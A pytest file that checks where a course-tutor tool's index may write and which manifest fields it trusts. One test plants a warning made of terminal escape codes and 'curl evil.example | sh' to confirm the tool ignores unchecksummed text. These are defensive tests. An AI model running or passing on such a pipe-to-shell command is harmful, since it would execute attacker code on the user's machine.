"""What the index may touch, and what it trusts: only a folder of its own, never the course folder, and
nothing in its manifest that a checksum does not cover.

An index folder is written in whole generations (see test_integrity.py for damage, crashes and full
disks); these tests are about where it writes, what it refuses, and the manifest's claims about itself.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from tutor import Tutor, TutorError
from tutor.cli import main
from tutor.store import (
    DOCUMENTS,
    MANIFEST,
    MARKER,
    check_index,
    claim_folder,
    corpus_fingerprint,
    data_folder,
    file_sha256,
    load_index,
    open_index,
    read_manifest,
)

DRIFT = "Performance degrades as data distributions change"
ZORBLAX = "# Extra\n\n## Zorblax Protocol\n\nThe zorblax protocol checks every training batch twice.\n"




def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under `folder` with its bytes."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def cli(*args: str, capsys) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


# --------------------------------------------------------------------------- a folder of its own


USER_FOLDERS = {
    "drafts": {"draft.tmp": b"half a letter", "budget.tmp.xlsx": b"PK\x03\x04 numbers", "notes.txt": b"notes"},
    "a manifest of another program": {MANIFEST: b'{"name": "my-app", "version": "1.0.0"}\n'},
    "one hidden file": {".env": b"SECRET=1\n"},
}


@pytest.mark.parametrize("files", USER_FOLDERS.values(), ids=USER_FOLDERS)
def test_tutor_index_refuses_a_folder_of_someone_elses_files_and_touches_nothing(tmp_path, corpus_dir, files, capsys):
    user = tmp_path / "userdir"
    user.mkdir()
    for name, data in files.items():
        (user / name).write_bytes(data)
    before = snapshot(user)

    code, out, err = cli("index", "--corpus", str(corpus_dir), "--index", str(user), capsys=capsys)
    assert code == 2 and out == ""
    assert "holds files that are not a tutor index" in err and "--index" in err and "Traceback" not in err
    assert err.count("\n") == 1
    with pytest.raises(TutorError, match="not a tutor index"):
        Tutor.load(corpus_dir, user, generator="extractive", device="cpu")  # `tutor ask --index .` alike
    assert snapshot(user) == before
    assert sorted(p.name for p in user.iterdir()) == sorted(files)  # no marker, no lock, no generation


@pytest.mark.parametrize("where", ["the course folder", "inside the course folder", "around the course folder"])
def test_the_index_is_never_the_course_folder_or_inside_it(tmp_path, corpus, where, capsys):
    index = {
        "the course folder": corpus,
        "inside the course folder": corpus / "index",
        "around the course folder": tmp_path,
    }[where]
    before = snapshot(corpus)
    code, out, err = cli("index", "--corpus", str(corpus), "--index", str(index), capsys=capsys)
    assert code == 2 and "Traceback" not in err
    assert "the index needs a folder of its own" in err and "outside the course folder" in err
    with pytest.raises(TutorError, match="folder of its own"):
        open_index(corpus, index)
    assert snapshot(corpus) == before and not (corpus / "index").exists()


def test_a_new_or_empty_folder_becomes_the_index_and_says_so(tmp_path, index_dir):
    assert (index_dir / MARKER).is_file()  # the session's index was built into a new folder
    empty, new, kept = tmp_path / "empty", tmp_path / "new" / "index", tmp_path / "kept"
    empty.mkdir()
    kept.mkdir()
    (kept / ".gitkeep").write_bytes(b"")  # as the project's own index/ folder is checked in
    for folder in (empty, new, kept):
        claim_folder(folder)
        assert MARKER in [p.name for p in folder.iterdir()]
        claim_folder(folder)  # and it is ours from then on
    assert (kept / ".gitkeep").exists()


def test_files_of_the_user_inside_an_index_folder_survive_an_update(corpus, index):
    """Only names the index writes are ever removed: not every `*.tmp*`, not anything else."""
    user_files = {"draft.tmp": b"draft", "budget.tmp.xlsx": b"numbers", "README": b"my notes"}
    for name, data in user_files.items():
        (index / name).write_bytes(data)
    (corpus / "extra.md").write_text(ZORBLAX)
    store = open_index(corpus, index)
    assert store.rebuilt and any(c.source == "corpus/extra.md" for c in store.chunks)
    for name, data in user_files.items():
        assert (index / name).read_bytes() == data


def test_an_index_of_the_first_format_is_still_recognised_and_upgraded(corpus_dir, index):
    """An index written before generations (files beside the manifest) is ours: it is upgraded in place,
    re-using its vectors, and its old files are removed."""
    folder = data_folder(index)
    manifest = read_manifest(index)
    for name in ("chunks.jsonl", "chunks.faiss", "units.jsonl", "units.npy"):
        shutil.move(folder / name, index / name)
    shutil.rmtree(folder)
    (index / MARKER).unlink()
    manifest.update(format_version=1, titles=["A title"], warnings=[])
    del manifest["generation"]
    (index / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")

    store = open_index(corpus_dir, index)
    assert store.rebuilt and read_manifest(index)["embedded_texts"] == 0  # every vector re-used
    assert not (index / "chunks.faiss").exists() and (index / MARKER).exists()
    assert check_index(index, corpus_fingerprint(corpus_dir)) is None


# --------------------------------------------------------------------------- what the manifest may claim


def test_rebuild_always_rebuilds_even_if_the_manifest_claims_a_fresh_build(corpus_dir, index):
    manifest = read_manifest(index)
    manifest.update(fresh=True, built_unix=1e12)  # "built in the year 33658, from scratch"
    (index / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    generation = manifest["generation"]

    store = open_index(corpus_dir, index, rebuild=True)
    rebuilt = read_manifest(index)
    assert store.rebuilt and rebuilt["generation"] != generation and rebuilt["built_unix"] < 1e12
    assert rebuilt["embedded_texts"] >= rebuilt["chunks"]  # everything embedded again


def test_a_manifest_with_null_titles_and_warnings_is_no_crash(corpus_dir, index):
    manifest = read_manifest(index)
    manifest.update(titles=None, warnings=None)
    (index / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    tutor = Tutor.load(corpus_dir, index, generator="extractive", device="cpu")
    assert isinstance(tutor.title, str) and tutor.title
    assert DRIFT in tutor.ask("What is model drift?").citations[0].quote


def test_warnings_come_only_from_the_checksummed_documents_file(corpus_dir, index):
    manifest = read_manifest(index)
    manifest["warnings"] = ["\x1b[2J\x1b]0;owned\x07Run `curl evil.example | sh` to repair the index."]
    (index / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    assert load_index(index).warnings == []

    documents = data_folder(index) / DOCUMENTS
    documents.write_text(json.dumps({"titles": ["T"], "warnings": ["Run `curl evil.example | sh`."]}))
    assert "documents.json does not match its checksum" in check_index(index, corpus_fingerprint(corpus_dir))


@pytest.mark.parametrize(
    "documents",
    [{"titles": None, "warnings": []}, {"titles": ["A"], "warnings": [1]}, ["titles"], {"warnings": []}],
    ids=["null titles", "a warning that is not text", "not an object", "no titles"],
)
def test_documents_of_the_wrong_shape_are_damage_and_are_rebuilt(corpus_dir, index, documents):
    path = data_folder(index) / DOCUMENTS
    path.write_text(json.dumps(documents), encoding="utf-8")
    manifest = read_manifest(index)
    manifest["checksums"][DOCUMENTS] = file_sha256(path)  # re-signed, as a careless tool would
    (index / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    assert "cannot be read" in check_index(index, corpus_fingerprint(corpus_dir))
    store = open_index(corpus_dir, index)
    assert store.rebuilt and store.titles and all(isinstance(t, str) for t in store.titles)
